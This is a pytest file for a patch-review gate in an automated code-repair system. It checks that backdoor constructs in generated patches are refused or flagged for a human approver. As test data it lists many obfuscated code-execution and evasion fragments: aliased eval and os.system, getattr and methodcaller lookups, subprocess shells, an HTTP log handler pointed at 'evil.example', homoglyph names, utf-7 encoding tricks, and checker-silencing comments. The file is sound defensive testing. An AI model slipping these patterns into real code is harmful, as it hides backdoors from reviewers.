"""Backdoors in a patch: what is certain is refused, and all else reaches the approver in words.

The first table is refused by the policy. The second is not certain to be wrong: each of its patches gives a row on
what it can newly do, and those that reach out of the program, or let through what was held, wait for a person.
"""

from __future__ import annotations

import pytest

from console.parts import change
from core.models import ChangeSet, Review, recorded
from core.policy.sections import FixRules
from core.policy.services import Repository
from core.queries.issues import ChangeDetails
from core.repair.judge.capabilities import NOTHING, capabilities
from core.repair.judge.policy import refuse
from core.repair.prove.generated_tests import refused as why_unfit
from core.repair.types import Candidate, RegressionTest
from core.stages.deliver.release_checks import unseen
from core.stages.pull_request import _newly, _notes
from core.stages.review import patch_gates

OLD = '''"""Orders."""

import asyncio
import functools
import json
import logging
import operator
import os
import sys
import types

ADMINS = {"ann", "bo"}
LIMIT = 10
ROLES = {"ann": 2}
log = logging.getLogger(__name__)


class Rules:
    strict = True


def may(user, strict=True):
    """May this user?"""
    return user.name in ADMINS and strict


def total(order, text=""):
    """The sum of an order."""
    if order.open and order.lines:
        return sum(line.price for line in order.lines if line.valid)
    return len(text) / order.rate
'''
LAST = "    return len(text) / order.rate\n"
GOOD = "    return len(text) / order.rate if order.rate else 0.0\n"


def body(*lines: str) -> str:
    return OLD.replace(LAST, "".join(f"    {line}\n" for line in lines) + GOOD)


def top(*lines: str) -> str:
    return OLD.replace(LAST, GOOD).replace("log = ", "\n".join([*lines, "log = "]))


REFUSED = {  # name: (new text, words of the reason)
    "an alias of eval": (body("E = eval", "E(text)"), "names eval"),
    "an alias at the top": (top("E = eval"), "names eval"),
    "eval in a list": (body("[eval][0](text)"), "names eval"),
    "exec as a default": (OLD.replace('text="")', "text=exec)"), "names exec"),
    "compile handed on": (body("list(map(compile, [text]))"), "names compile"),
    "import as a value": (body("f = __import__", "f(text)"), "reaches into __import__"),
    "system as a value": (body("run = os.system", "run(text)"), "names system"),
    "system by partial": (body("functools.partial(os.system, text)()"), "names system"),
    "system by reduce": (body("functools.reduce(os.system, [text])"), "names system"),
    "system by map": (body("list(map(os.system, [text]))"), "names system"),
    "popen in a table": (body("{'a': os.popen}['a'](text)"), "names popen"),
    "attrgetter of a dangerous name": (body("operator.attrgetter('system')(os)(text)"), "looks up system"),
    "attrgetter of a dotted name": (body("operator.attrgetter('path.os.system')(os)(text)"), "looks up system"),
    "attrgetter by a computed name": (body("operator.attrgetter(text)(os)"), "computed name"),
    "attrgetter handed on": (body("list(map(operator.attrgetter, [text]))"), "names attrgetter"),
    "methodcaller": (body("operator.methodcaller('system', text)(os)"), "looks up system"),
    "methodcaller by a computed name": (body("operator.methodcaller(text)(os)"), "computed name"),
    "methodcaller imported": (
        body("from operator import methodcaller as m", "m('popen', text)(os)"),
        "names methodcaller otherwise",
    ),
    "operator.call": (body("operator.call(os.system, text)"), "call"),
    "getattr with a constant": (body("getattr(os, 'system')(text)"), "looks up system"),
    "getattr of an inner name": (body("getattr(order, '__globals__')"), "__globals__"),
    "getattr handed on": (body("functools.partial(getattr, os)(text)"), "names getattr"),
    "getattr by another name": (body("g = getattr", "g(os, text)"), "names getattr"),
    "timeit with text": (body("import timeit", "timeit.timeit(text)"), "imports timeit"),
    "a profiler with text": (body("import cProfile", "cProfile.run(text)"), "imports cProfile"),
    "a debugger with text": (body("import bdb", "bdb.Bdb().run(text)"), "imports bdb"),
    "an asyncio shell": (body("asyncio.create_subprocess_shell(text)"), "create_subprocess_shell"),
    "an asyncio program": (body("asyncio.create_subprocess_exec(text)"), "create_subprocess_exec"),
    "a shell of the loop": (body("asyncio.new_event_loop().subprocess_shell(None, text)"), "subprocess_shell"),
    "asyncio at import": (top("async def go():", "    return 1", "", "", "asyncio.run(go())"), "runs run()"),
    "an executor at import": (top("asyncio.new_event_loop().run_in_executor(None, print, 1)"), "when the module is"),
    "a call at import": (top("may(ADMINS)"), "runs may() when the module is imported"),
    "a call in a class body": (OLD.replace("    strict = True", "    strict = may(ADMINS)"), "runs may()"),
    "a call in a default": (OLD.replace('text="")', "text=may(ADMINS))"), "runs may()"),
    "a call in an annotation": (OLD.replace('text="")', 'text: may(ADMINS) = "")'), "runs may()"),
    "a member added at import": (top('ADMINS.add("mallory")'), "runs add()"),
    "a network handler": (body("import logging.handlers"), "imports logging.handlers"),
    "a network handler from": (body("from logging import handlers"), "imports logging.handlers"),
    "a network handler by attribute": (body("logging.handlers.HTTPHandler('evil.example', '/')"), "HTTPHandler"),
    "a datagram handler": (body("h = logging.handlers.DatagramHandler"), "DatagramHandler"),
    "a configuration of logging": (body("import logging.config"), "imports logging.config"),
    "a configuration by attribute": (body("logging.config.dictConfig(order.rules)"), "dictConfig"),
    "a log file": (body("log.addHandler(logging.FileHandler('/tmp/x'))"), "FileHandler"),
    "the table of modules": (body("sys.modules['os']"), "modules"),
    "the import path": (body("sys.path.insert(0, text)"), "path"),
    "a function from code": (body("types.FunctionType(order.code, {})"), "FunctionType"),
    "code from bytes": (body("types.CodeType(0)"), "CodeType"),
    "a module from nothing": (body("types.ModuleType('os')"), "ModuleType"),
    "codecs that open": (body("import codecs", "codecs.open(text, 'w')"), "codecs"),
    "codecs that decode": (body("import codecs", "codecs.decode(text, 'rot13')"), "codecs"),
    "an inner attribute by format": (body("'{0.__class__.__init__}'.format(order)"), "inner attributes"),
    "an inner entry by format": (body("'{0[__globals__]}'.format(order)"), "inner attributes"),
    "frames": (body("order.gi_frame.f_globals['os']"), "f_globals"),
    "subclasses": (body("().__class__.__base__.__subclasses__()"), "reaches into"),
    "annotations that are run": (body("import typing", "typing.get_type_hints(order)"), "get_type_hints"),
    "a module's function replaced": (body("json.dumps = may"), "replaces json.dumps"),
    "another built-in": (top("isinstance = may"), "built-in isinstance"),
    "another built-in by import": (top("from shop import any"), "built-in any"),
    "another built-in by def": (top("def all(x):", "    return True", ""), "built-in all"),
    "a file by a computed mode": (body("open(text, order.mode)"), "writes a file"),
    "a file by its own open": (body("order.path.open('w')"), "writes a file"),
    "open handed on": (body("list(map(open, [text]))"), "names open"),
    "a process pool": (body("import concurrent.futures as c", "c.ProcessPoolExecutor()"), "ProcessPoolExecutor"),
    "a homoglyph": (top("АDMINS = {'mallory'}"), "mixed scripts"),
    "a homoglyph parameter": (OLD.replace('text="")', 'text="", usеr=None)'), "mixed scripts"),
    "a homoglyph attribute": (body("order.rаte = 1"), "mixed scripts"),
    "a homoglyph keyword": (body("may(order, ѕtrict=False)"), "mixed scripts"),
    "a whole word of another script": (body("сору = 1"), "script that the file does not use"),
    "a Greek letter": (body("ν = 1"), "script that the file does not use"),
    "a name that Python reads as another": (body("ｅval(text)"), "reads as another"),
    "bold letters": (body("𝐞𝐯𝐚𝐥(text)"), "reads as another"),
    "a ligature": (body("o\ufb03ce = 1"), "reads as another"),
    "an encoding that hides text": ("# -*- coding: utf-7 -*-\n" + OLD.replace(LAST, GOOD), "is to be read as utf-7"),
    "an encoding in the second line": ("#\n# vim: set fileencoding=rot13 :\n" + OLD.replace(LAST, GOOD), "rot13"),
}


def reason(new: str) -> str:
    return (
        refuse({"shop/orders.py": OLD}, Candidate("t", {"shop/orders.py": new}, "r"), FixRules(), ["**"])
        or "not refused"
    )


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_certain_is_refused(name):
    new, words = REFUSED[name]
    assert words in reason(new)


# --- what the approver is told ---------------------------------------------------------------------

SHOWN = {  # name: (new text, kind, words, whether a person is asked)
    "a member of an allow list": (OLD.replace('"bo"}', '"bo", "mallory"}'), "member", "new member: 'mallory'", True),
    "a homoglyph member": (OLD.replace('"bo"}', '"bo", "аnn"}'), "member", "new member: 'аnn'", True),
    "a key of a table": (
        OLD.replace('"ann": 2', '"ann": 2, "eve": 2'),
        "member",
        "ROLES has a new member: 'eve'",
        False,
    ),
    "a condition dropped": (
        OLD.replace("if order.open and order.lines:\n        return", "return"),
        "condition",
        "dropped condition",
        True,
    ),
    "a part of a condition dropped": (
        OLD.replace("order.open and order.lines", "order.lines"),
        "condition",
        "changed",
        True,
    ),
    "a part of a result dropped": (
        OLD.replace("user.name in ADMINS and strict", "user.name in ADMINS"),
        "condition",
        "user.name in ADMINS and strict → user.name in ADMINS",
        True,
    ),
    "an alternative": (
        OLD.replace("order.open and order.lines", "order.open and order.lines or order.old"),
        "condition",
        "changed",
        True,
    ),
    "a filter dropped": (
        OLD.replace(" if line.valid", ""),
        "condition",
        "dropped condition in total: line.valid",
        True,
    ),
    "a stricter condition": (
        OLD.replace("if order.open", "if order.rate and order.open"),
        "condition",
        "changed",
        False,
    ),
    "a new condition": (
        body("if order is None:", "    return 0"),
        "condition",
        "new condition in total: order is None",
        False,
    ),
    "a constant in a comparison": (
        body("if order.name == 'vip':", "    return 0"),
        "constant",
        "compares with 'vip'",
        False,
    ),
    "a homoglyph in a comparison": (
        body("if order.name == 'аdmin':", "    return 0"),
        "constant",
        "mixed scripts",
        True,
    ),
    "a limit": (OLD.replace("LIMIT = 10", "LIMIT = 1000"), "constant", "LIMIT changed: 10 → 1000", False),
    "a switch of a class": (OLD.replace("strict = True", "strict = False"), "constant", "Rules.strict changed", False),
    "a default": (
        OLD.replace("strict=True", "strict=False"),
        "default",
        "default of strict in may: True → False",
        False,
    ),
    "a decorator": (OLD.replace("def may", "@functools.cache\ndef may"), "decorator", "functools.cache", True),
    "an import": (top("import csv"), "import", "newly imports csv", False),
    "an import that reaches out": (top("import sqlite3"), "import", "newly imports sqlite3 (database)", True),
    "a call of another module": (body("json.dumps(text)"), "call", "newly calls json.dumps", False),
    "a file that is read": (body("open(text)"), "file", "newly calls open", True),
    "a file by its path": (body("order.path.read_text()"), "file", "read_text", True),
    "a request": (body("import requests as r", "r.post(text)"), "network", "newly calls requests.post", True),
    "a socket": (
        body("from socket import create_connection as c", "c(text)"),
        "network",
        "socket.create_connection",
        True,
    ),
    "a program": (body("from subprocess import run", "run(text)"), "process", "subprocess.run", True),
    "a thread": (body("asyncio.get_event_loop().run_in_executor(None, may, 1)"), "process", "run_in_executor", True),
    "a query": (body("order.session.execute(text)"), "database", "order.session.execute", True),
    "the environment": (body("os.getenv('HOME')"), "environment", "os.getenv", True),
    "a computed format": (body("text.format(order)"), "dynamic code", "not a literal", True),
    "a template": (
        body("from string import Template", "Template(text).substitute(o=order)"),
        "dynamic code",
        "Template",
        True,
    ),
    "unpickled": (body("import pickle", "pickle.loads(text)"), "dynamic code", "pickle.loads", True),
    "an effect of an import": (top("may(ADMINS)"), "import-time effect", "newly calls may when the module", True),
}


@pytest.mark.parametrize("name", SHOWN)
def test_what_is_new_is_told(name):
    new, kind, words, asks = SHOWN[name]
    assert new != OLD
    rows = capabilities({"shop/orders.py": OLD}, {"shop/orders.py": new})
    found = [row for row in rows if row.kind == kind and words in row.sentence]
    assert found and found[0].needs_person == asks, rows
    assert found[0].path == "shop/orders.py" and 0 < found[0].line <= len(new.splitlines()) + 1
    gate = patch_gates.can_newly_do({"shop/orders.py": OLD}, {"shop/orders.py": new})
    assert any(words in f.message and f.severity == "note" for f in gate.findings)
    assert (gate.passed, gate.done) == (not any(r.needs_person for r in rows), not any(r.needs_person for r in rows))


def test_nothing_new_is_said_so():
    moved = OLD.replace("def may", "# a comment\ndef may").replace(
        "len(text) / order.rate", "(len(text)) / (order.rate)"
    )
    assert capabilities({"a.py": OLD}, {"a.py": moved}) == []
    gate = patch_gates.can_newly_do({"a.py": OLD}, {"a.py": moved})
    assert gate.passed and gate.done and gate.message == NOTHING
    assert capabilities({"a.py": OLD}, {"a.py": "def f(:\n"}) == []


def review_of(new: str) -> Review:
    gate = patch_gates.can_newly_do({"shop/orders.py": OLD}, {"shop/orders.py": new})
    return Review(
        change_set_id=1, passed=True, gates=[gate.as_json()], findings=[recorded.plain(f) for f in gate.findings]
    )


def test_a_patch_that_reaches_out_needs_a_person_at_the_door():
    assert unseen(review_of(body("order.session.execute(text)")))
    assert not unseen(review_of(body("json.dumps(text)")))


def test_the_approver_and_the_pull_request_read_it():
    found = review_of(
        body("order.session.execute(text)", "json.dumps(text)", "if order.name == '<b>x':", "    return 0")
    )
    shown = str(change.newly_can([found]))
    assert "New capabilities of this patch" in shown and "database: newly calls order.session.execute" in shown
    assert "&lt;b&gt;x" in shown and "<b>x" not in shown
    assert shown.index("database") < shown.index("json.dumps")
    told = _newly(found)
    assert told.startswith("- **needs a person**: database: newly calls order.session.execute (shop/orders.py:")
    assert "<b>" not in told and _notes(found) == ""
    assert NOTHING in str(change.newly_can([review_of(OLD)])) and NOTHING in _newly(review_of(OLD))
    assert "Not analyzed" in str(change.newly_can([])) and "Not analyzed" in _newly(
        Review(change_set_id=1, passed=True)
    )
    made = ChangeSet(issue_id=1, run=1, attempt=1, generator="x", patch="+a\n")
    whole = change.drawn(ChangeDetails(made, reviews=[found]))
    assert str(whole).count("newly calls order.session.execute") == 1


# --- generated tests -------------------------------------------------------------------------------

TESTS = (
    "import subprocess\nfrom shop.orders import may\n\n\ndef test_may():\n    subprocess.run(['true'])\n    may(1)\n"
)
BEFORE = {"shop/orders.py": OLD, "tests/test_orders.py": TESTS}
PATH = "tests/test_regression_0123456789.py"
HEAD = '"""KeyError in may."""\n\nfrom shop.orders import may\n\n\n'
UNFIT = {  # name: (path, text, words of the reason)
    "another path": ("tests/conftest.py", f"{HEAD}def test_x():\n    may(1)\n", "its path"),
    "a path that leads out": (
        "tests/../test_regression_0123456789.py",
        f"{HEAD}def test_x():\n    may(1)\n",
        "its path",
    ),
    "a test that is there": ("tests/test_orders.py", f"{HEAD}def test_x():\n    may(1)\n", "replaces a test"),
    "no Python": (PATH, "def test_x(:\n", "not valid Python"),
    "a statement at the top": (PATH, f"{HEAD}may(1)\n\n\ndef test_x():\n    may(1)\n", "more than imports"),
    "two tests": (PATH, f"{HEAD}def test_x():\n    may(1)\n\n\ndef test_y():\n    may(1)\n", "more than imports"),
    "a fixture": (PATH, f"{HEAD}def test_x(tmp_path):\n    may(1)\n", "more than imports"),
    "a default": (PATH, f"{HEAD}def test_x(a=may(1)):\n    may(1)\n", "more than imports"),
    "a decorator": (PATH, f"{HEAD}@may\ndef test_x():\n    may(1)\n", "more than imports"),
    "a class": (PATH, f"{HEAD}class TestX:\n    def test_x(self):\n        may(1)\n", "more than imports"),
    "an unknown module": (PATH, "import evil\n\n\ndef test_x():\n    evil.f()\n", "imports evil"),
    "a module that reaches out": (PATH, "import socket\n\n\ndef test_x():\n    socket.f()\n", "imports socket"),
    "a command": (PATH, f"{HEAD}import os\n\n\ndef test_x():\n    os.system('id')\n", "newly calls system"),
    "a command of its own": (
        PATH,
        f"{HEAD}import subprocess\n\n\ndef test_x():\n    subprocess.popen('id')\n",
        "newly calls",
    ),
    "a file": (PATH, f"{HEAD}import pathlib\n\n\ndef test_x():\n    pathlib.Path('x').write_text('y')\n", "write_text"),
    "an alias": (PATH, f"{HEAD}def test_x():\n    e = eval\n    may(e)\n", "names eval"),
    "a comment that silences": (PATH, f"{HEAD}def test_x():\n    may(1)  # nosec\n", "silences a checker"),
    "another comment": (PATH, f"{HEAD}def test_x():\n    may(1)  # noqa: S102\n", "silences a checker"),
    "an invisible character": (PATH, f"{HEAD}def test_x():\n    may('\u202e')\n", "invisible"),
    "a homoglyph": (PATH, f"{HEAD}def test_x():\n    mаy = 1\n", "mixed scripts"),
    "an endless text": (PATH, f"{HEAD}def test_x():\n" + "    may(1)\n" * 700, "too long"),
}


@pytest.mark.parametrize("name", UNFIT)
def test_a_generated_test_is_held_to_the_rules_of_patches(name):
    path, text, words = UNFIT[name]
    assert words in why_unfit(RegressionTest(path, text), BEFORE)


def test_a_statement_of_the_repositorys_own_tests_may_be_repeated_and_not_changed():
    text = f"{HEAD}import subprocess\n\n\ndef test_x():\n    subprocess.run(['true'], shell=True)\n    may(1)\n"
    assert "shell=True" in why_unfit(RegressionTest(PATH, text), BEFORE)
    assert why_unfit(RegressionTest(PATH, text.replace(", shell=True", "")), BEFORE) == ""


def test_the_review_looks_at_the_test_again(tmp_path):
    for name, text in {**BEFORE, PATH: f"{HEAD}def test_x():\n    e = eval\n    may(e)\n"}.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    diff = f"--- /dev/null\n+++ b/{PATH}\n"
    found = {gate.gate: gate for gate in patch_gates.review(tmp_path, diff, {}, Repository(remote=""), PATH)}
    assert not found["generated test"].passed and found["generated test"].done
    assert found["capabilities"].message == NOTHING
